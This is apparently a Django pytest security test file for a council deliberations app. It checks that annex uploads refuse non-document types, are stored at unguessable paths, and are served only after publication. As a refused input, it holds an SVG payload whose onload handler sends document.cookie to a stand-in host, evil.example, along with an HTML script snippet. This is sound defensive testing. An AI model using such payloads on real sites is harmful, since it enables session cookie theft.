"""Annex uploads accepted any type (an SVG with an onload script), and draft
annexes sat at guessable paths under /media/."""

import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from deliberations.annexes import REFUSED, TOO_LARGE, validate_annex_file
from deliberations.models import Annex, Deliberation
from tests.factories import DeliberationFactory, SessionFactory, publish
from tests.security.conftest import admin_form_data

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/?\'+'
       b'document.cookie)"/>')


def odt(mimetype=b"application/vnd.oasis.opendocument.text"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def upload(client, deliberation, name, content):
    url = reverse("admin:deliberations_deliberation_change", args=[deliberation.pk])
    data = admin_form_data(client.get(url))
    data.update({"annexes-TOTAL_FORMS": "1", "annexes-0-position": "1",
                 "annexes-0-title": "Plan de situation",
                 "annexes-0-file": SimpleUploadedFile(name, content)})
    return client.post(url, data)


@pytest.mark.parametrize("name, content", [
    ("plan.svg", SVG),
    ("plan.pdf", SVG),  # renamed: the content decides
    ("plan.html", b"<!doctype html><script>alert(1)</script>"),
    ("plan.csv", SVG),
    ("plan.odt", b"PK\x03\x04 not really a zip"),
    ("plan.odt", odt(b"image/svg+xml")),
    ("plan.exe", b"MZ\x90\x00"),
])
def test_annex_upload_refuses_anything_but_documents(
        client, clerk_cabbalr, council, name, content):
    deliberation = DeliberationFactory(session=SessionFactory(body=council))
    client.force_login(clerk_cabbalr)
    response = upload(client, deliberation, name, content)
    assert response.status_code == 200
    assert REFUSED in response.content.decode()
    assert not Annex.objects.exists()


@pytest.mark.parametrize("name, content", [
    ("Plan de situation.pdf", PDF),
    ("convention.odt", odt()),
    ("tableau.csv", "commune;montant\nBéthune;1200\n".encode()),
])
def test_documents_are_accepted_under_an_unguessable_path(
        client, clerk_cabbalr, council, name, content):
    deliberation = DeliberationFactory(session=SessionFactory(body=council))
    client.force_login(clerk_cabbalr)
    assert upload(client, deliberation, name, content).status_code == 302
    annex = Annex.objects.get()
    assert re.fullmatch(r"annexes/\d{4}/[A-Za-z0-9_-]{16}/[\w.-]+", annex.file.name)


def test_annex_served_only_once_published_as_an_attachment(client, council):
    draft = DeliberationFactory(session=SessionFactory(body=council))
    annex = Annex(deliberation=draft, title="Plan")
    annex.file.save("plan.pdf", ContentFile(PDF), save=True)
    url = reverse("deliberations:annex_download", args=[annex.pk])
    assert client.get(url).status_code == 404
    draft.status, draft.published_on, draft.result = "published", draft.session.date, "adopted"
    draft.save()
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PDF
    # The public page and the API link to this view, never to /media/.
    page = client.get(draft.get_absolute_url()).content.decode()
    assert f'href="{url}"' in page and "/media/" not in page
    api = client.get(f"/api/v1/deliberations/{draft.slug}/").json()
    assert api["annexes"] == [{"title": "Plan", "link": f"http://testserver{url}"}]


def test_stored_file_of_another_type_is_not_served(client, published_session):
    # Entered on the draft (before the check existed), then published.
    act = DeliberationFactory(session=published_session, item_number=2, published=True,
                              status=Deliberation.Status.DRAFT)
    annex = Annex(deliberation=act, title="Ancienne annexe")
    annex.file.save("plan.svg", ContentFile(SVG), save=True)  # stored before the check
    publish(act)
    assert client.get(reverse("deliberations:annex_download", args=[annex.pk])).status_code == 404


def test_annex_upload_limit():
    big = SimpleUploadedFile("rapport.pdf", PDF)
    big.size = 20 * 1024 * 1024 + 1
    with pytest.raises(ValidationError) as error:
        validate_annex_file(big)
    assert error.value.messages == [TOO_LARGE]
